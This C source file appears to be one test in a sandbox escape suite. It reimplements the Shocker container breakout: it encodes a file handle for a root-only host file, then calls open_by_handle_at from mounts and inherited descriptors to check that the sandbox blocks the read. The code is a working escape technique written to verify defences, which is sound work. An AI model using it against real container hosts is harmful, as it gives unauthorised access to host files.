/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Shocker: open_by_handle_at opens any file of a file system by its number, without a walk from a
 * root, from any descriptor on the same file system. Who has CAP_DAC_READ_SEARCH of the host and
 * one bind mount of it reads all of it; the number of "/" is 2 on ext4. The host's half is generous:
 * it tells the handle of a file that only root can read, and leaves a directory open. The filter
 * forbids the call, there is no capability, no mount of the host and no descriptor of it.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base/scoped.h"
#include "tests/escape/try.h"

#define SECRET "what only root of the host may read\n"
enum { HANDLE_MAX = MAX_HANDLE_SZ, LEAKED = 43, LAST_FD = 64 };

union handle {
	struct file_handle head;
	unsigned char bytes[sizeof(struct file_handle) + HANDLE_MAX];
};

static union handle wanted; /* inside: of the file of the host */

/* TYPE:HEX, so that it can be a word. */
static int handle_text(int fd, char *text, size_t size)
{
	union handle handle = {.head.handle_bytes = HANDLE_MAX};
	int mount_id, used;

	if (name_to_handle_at(fd, "", &handle.head, &mount_id, AT_EMPTY_PATH) < 0)
		return -1;
	used = snprintf(text, size, "%d:", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		used += snprintf(text + used, size - (size_t)used, "%02x",
		                 handle.bytes[sizeof(handle.head) + i]);
	return 0;
}

static int handle_parse(const char *text, union handle *handle)
{
	char *hex, pair[3] = "";
	unsigned n = 0;

	handle->head.handle_type = (int)strtol(text, &hex, 10);
	if (*hex != ':')
		return -1;
	for (hex++; n < HANDLE_MAX && hex[0] && hex[1]; hex += 2) {
		memcpy(pair, hex, 2);
		handle->bytes[sizeof(handle->head) + n++] = (unsigned char)strtoul(pair, NULL, 16);
	}
	handle->head.handle_bytes = n;
	return n ? 0 : -1;
}

static int before(const char *words[8], struct evidence *evidence)
{
	static char text[2 * HANDLE_MAX + 16];
	const char *directory;
	scoped_fd dirfd = try_host_directory(&directory);
	scoped_fd fd = -1;

	/* the launcher inherits the copy */
	if (dirfd < 0 || dup2(dirfd, LEAKED) < 0 ||
	    try_write_file(dirfd, "secret", SECRET, 0600) < 0) {
		verdict(evidence, UNTRIED, "a file on the host: %s", strerror(errno));
		return -1;
	}
	words[0] = text;
	fd = openat(dirfd, "secret", O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && handle_text(fd, text, sizeof(text)) == 0)
		return 0;
	verdict(evidence, ABSENT, "the file system of the host's /tmp knows no handles");
	return 1;
}

static long opened(int mountfd)
{
	scoped_fd fd = open_by_handle_at(mountfd, &wanted.head, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	errno = 0;
	return try_reads(fd, SECRET) ? 0 : -1;
}

static void attempt(struct tries *tries)
{
	static const char *const mounts[] = {"/",    "/etc",     "/tmp",  "/workspace",
	                                     "/dev", "/dev/shm", "/proc", "/etc/hosts"};
	union handle own = {.head.handle_bytes = HANDLE_MAX};
	int mount_id;

	for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		scoped_fd fd = open(mounts[i], O_RDONLY | O_CLOEXEC);

		tried(tries, opened(fd), "the host's file was opened by its handle from %s",
		      mounts[i]);
	}
	for (int fd = 3; fd < LAST_FD; fd++) {
		if (fcntl(fd, F_GETFD) >= 0)
			tried(tries, opened(fd), "the host's file was opened from descriptor %d",
			      fd);
	}
	tried(tries, opened(AT_FDCWD), "the host's file was opened from here");
	/* where handles can be had, they can be counted through */
	if (name_to_handle_at(AT_FDCWD, "/", &own.head, &mount_id, 0) < 0)
		tried(tries, -1, "name_to_handle_at");
}

static enum outcome inside(char *const argv[], struct evidence *evidence)
{
	struct tries *tries = tries_new();

	if (!argv[0] || handle_parse(argv[0], &wanted) < 0)
		return verdict(evidence, UNTRIED, "the host's half told no handle");
	try_everywhere(tries, CLONE_NEWNS, attempt);
	return tries_verdict(tries, evidence);
}

ATTACK(shocker) = {
	.name = "open_by_handle_at",
	.what = "open a file of the host by its handle, without a path",
	.seen = "Shocker (2014), every container with CAP_DAC_READ_SEARCH",
	.wall = "filter, no capability, no descriptor of the host",
	.control = WORDS(AS_ROOT_OF_THE_HOST, WITHOUT("closed descriptors")),
	.before = before,
	.inside = inside,
};
